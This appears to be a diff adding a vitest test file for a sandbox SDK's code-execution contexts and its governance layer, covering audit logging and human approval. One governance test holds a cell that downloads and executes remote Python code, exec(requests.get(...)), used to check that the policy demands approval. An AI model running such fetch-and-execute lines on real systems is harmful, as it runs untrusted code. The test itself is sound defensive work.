@@ -1,0 +1,118 @@
+import { createHash } from 'node:crypto';
+import { Sandbox } from '@paddock/sdk';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type FastDaemon, startFastDaemon } from '../testing/fast-daemon.js';
+
+// The fast tier runs the kernel from the host's own python3 (python3-ipykernel,
+// python3-jupyter-client): the same driver and API as in a real sandbox.
+let daemon: FastDaemon;
+let sbx: Sandbox;
+
+beforeAll(async () => {
+  daemon = await startFastDaemon();
+  sbx = await Sandbox.create({ ...daemon.conn });
+});
+
+const call = async (method: string, path: string, body?: unknown, token = daemon.token) => {
+  const res = await fetch(`${daemon.url}${path}`, {
+    method,
+    headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
+    body: body === undefined ? undefined : JSON.stringify(body),
+  });
+  return { status: res.status, body: (await res.json()) as Record<string, unknown> & { error?: { code: string; message: string } } };
+};
+
+afterAll(async () => {
+  await daemon?.stop();
+});
+
+describe('code contexts (fast tier)', () => {
+  it('keeps state between cells and returns output, the value and the execution count', async () => {
+    const first = await sbx.runCode('x = 41\nprint("hello")');
+    expect(first).toMatchObject({ error: null, logs: { stdout: 'hello\n', stderr: '' }, results: [], timedOut: false, kernelDied: false });
+    const second = await sbx.runCode('x + 1');
+    expect(second.results).toEqual([{ isMainResult: true, text: '42' }]);
+    expect(second.executionCount).toBe((first.executionCount ?? 0) + 1);
+    expect(second.contextId).toBe(first.contextId);
+  });
+
+  it('streams output to the callbacks and returns an exception as error with its traceback', async () => {
+    const seen: string[] = [];
+    const r = await sbx.runCode('import sys\nprint("out")\nprint("err", file=sys.stderr)\n1/0', {
+      onStdout: (t) => seen.push(`out:${t}`),
+      onStderr: (t) => seen.push(`err:${t}`),
+    });
+    // Each stream in its order; the kernel flushes stdout and stderr apart, so not the one before the other.
+    expect(seen.toSorted()).toEqual(['err:err\n', 'out:out\n']);
+    expect(r.error).toMatchObject({ name: 'ZeroDivisionError', value: 'division by zero' });
+    expect(r.error?.traceback).toContain('1/0');
+    // Plain text: the terminal colours IPython adds are gone.
+    expect(r.error?.traceback).not.toContain('\x1b[');
+  });
+
+  it('keeps contexts apart and lists, restarts and deletes them', async () => {
+    const a = await sbx.createCodeContext();
+    const b = await sbx.createCodeContext({ env: { GREETING: 'from b' } });
+    await sbx.runCode('v = "a"', { context: a });
+    await sbx.runCode('v = "b"', { context: b });
+    expect((await sbx.runCode('v', { context: a })).results[0]?.text).toBe("'a'");
+    expect((await sbx.runCode('import os; os.environ["GREETING"]', { context: b })).results[0]?.text).toBe("'from b'");
+    expect((await sbx.code.listContexts()).map((c) => c.id)).toEqual(expect.arrayContaining([a.id, b.id]));
+    await sbx.code.restartContext(a);
+    expect((await sbx.runCode('v', { context: a })).error?.name).toBe('NameError');
+    await sbx.code.deleteContext(b);
+    const gone = await sbx.runCode('1', { context: b }).catch((e: unknown) => e);
+    expect(gone).toMatchObject({ code: 'code_context_not_found' });
+  });
+
+  it('refuses bad input with a 400 and a stable code, and starts a context from an empty body', async () => {
+    expect(await call('POST', `/v1/sandboxes/${sbx.id}/code/contexts`, { language: 'cobol' })).toMatchObject({
+      status: 400,
+      body: { error: { code: 'invalid_request' } },
+    });
+    expect(await call('POST', `/v1/sandboxes/${sbx.id}/code/run`, { contextId: 'x' })).toMatchObject({
+      status: 400,
+      body: { error: { code: 'invalid_request' } },
+    });
+    const bare = await call('POST', `/v1/sandboxes/${sbx.id}/code/contexts`);
+    expect(bare).toMatchObject({ status: 201, body: { language: 'python', state: 'idle', cwd: null } });
+    expect((await call('DELETE', `/v1/sandboxes/${sbx.id}/code/contexts/${bare.body.id as string}`)).status).toBe(200);
+  });
+
+  it('answers a cell for a context that does not exist with a 404 and a stable code', async () => {
+    const res = await fetch(`${daemon.url}/v1/sandboxes/${sbx.id}/code/run`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${daemon.token}`, 'content-type': 'application/json' },
+      body: JSON.stringify({ code: '1', contextId: 'ctx-nope' }),
+    });
+    expect(res.status).toBe(404);
+    expect(((await res.json()) as { error: { code: string } }).error.code).toBe('code_context_not_found');
+  });
+});
+
+describe('code.run governance', () => {
+  it('audits a cell with its digest, summary and risk, never its code', async () => {
+    const secretish = 'token_value_that_must_not_be_logged';
+    const code = `import os\nos.system("echo hi")\nleft = "${secretish}"`;
+    await sbx.runCode(code);
+    const records = (await call('GET', '/v1/audit?limit=10000')).body.records as Array<{ action: string; details: Record<string, unknown> }>;
+    const record = records.findLast((r) => r.action === 'code.run');
+    expect(record?.details).toMatchObject({
+      language: 'python',
+      codeDigest: createHash('sha256').update(code).digest('hex'),
+      codeSummary: 'import os (+2 lines) [' + code.length + ' chars]',
+      riskTags: expect.arrayContaining(['shell']),
+    });
+    expect(record?.details.risk).toBeGreaterThan(0);
+    expect(JSON.stringify(record)).not.toContain(secretish);
+  });
+
+  it('asks a human before a cell that runs code it downloads (default policy), and lets plain cells run', async () => {
+    const asked = await call('POST', `/v1/sandboxes/${sbx.id}/code/run`, { code: 'import requests\nexec(requests.get("https://x.invalid/p.py").text)' });
+    expect(asked.status).toBe(403);
+    expect(asked.body.error).toMatchObject({ code: 'approval_required' });
+    expect(asked.body.error?.message).toMatch(/runs code it downloads/);
+    const plain = await call('POST', `/v1/sandboxes/${sbx.id}/code/run`, { code: '6 * 7' });
+    expect(plain).toMatchObject({ status: 200, body: { results: [{ isMainResult: true, text: '42' }] } });
+  });
+});
